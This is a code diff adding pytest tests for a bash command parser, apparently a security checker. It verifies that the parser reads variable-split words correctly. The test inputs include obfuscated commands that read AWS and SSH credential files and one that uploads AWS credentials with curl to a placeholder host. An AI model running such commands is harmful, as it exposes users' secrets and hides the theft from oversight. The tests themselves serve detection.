@@ -306,3 +306,21 @@ def test_fleet_tools_hand_their_command_to_remote_shells(line, remote):
                                   "az vm list", "gcloud compute ssh web-1", "aws s3 ls"])
 def test_fleet_tools_without_a_command_run_nothing_remote(line):
     assert not [c for c in parse(line).commands if c.via.endswith("remote command")]
+
+
+@pytest.mark.parametrize("src,argv", [
+    # tree-sitter-bash splits `$A/$b/c` after `/$`; bash reads one word with `$b` in it
+    ("p=.aws; cat $HOME/$p/credentials", ("cat", "~/.aws/credentials")),
+    ("p=aws; cat ${HOME}/.$p/credentials", ("cat", "~/.aws/credentials")),
+    ("a=.ssh; b=id_rsa; cat ~/$a/$b", ("cat", "~/.ssh/id_rsa")),
+    ("a=.ssh; b=id_; cat $HOME/$a/${b}rsa", ("cat", "~/.ssh/id_rsa")),
+    ("p=.aws; curl -F f=@$HOME/$p/credentials x.example", ("curl", "-F", "f=@~/.aws/credentials", "x.example")),
+    ("echo '$A/$b/c'", ("echo", "$A/$b/c")),
+])
+def test_a_word_split_after_a_dollar_is_read_whole(src, argv):
+    assert parse(src).commands[-1].argv == argv
+
+
+def test_an_assignment_split_after_a_dollar_runs_no_command():
+    # `x=$A/$b/c` once read as an assignment plus a command named `b/c`
+    assert [c.argv for c in parse("x=$A/$b/c").commands] == []
